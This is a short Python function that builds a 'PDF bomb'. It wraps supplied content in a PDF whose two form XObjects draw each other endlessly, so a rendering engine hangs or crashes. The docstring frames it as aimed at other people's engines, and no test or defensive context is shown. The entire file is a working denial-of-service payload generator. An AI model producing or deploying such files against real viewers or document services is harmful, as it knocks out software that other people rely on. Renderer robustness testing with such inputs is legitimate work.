"""PDFs that their engine does not come back from."""


def bomb(content: bytes) -> bytes:
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject<</X 5 0 R/Y 6 0 R>>>>>>",
        content,
        b"/X Do /Y Do",
        b"/Y Do /X Do",
    ]
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R/Y 6 0 R>>>>"
    data = b"%PDF-1.7\n"
    for number, body in enumerate(objects, start=1):
        stream = b"<<%s/Length %d>>stream\n%s\nendstream" % (form if number > 4 else b"", len(body), body)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, stream if number > 3 else body)
    return data + b"trailer<</Size 7/Root 1 0 R>>\n%%EOF\n"
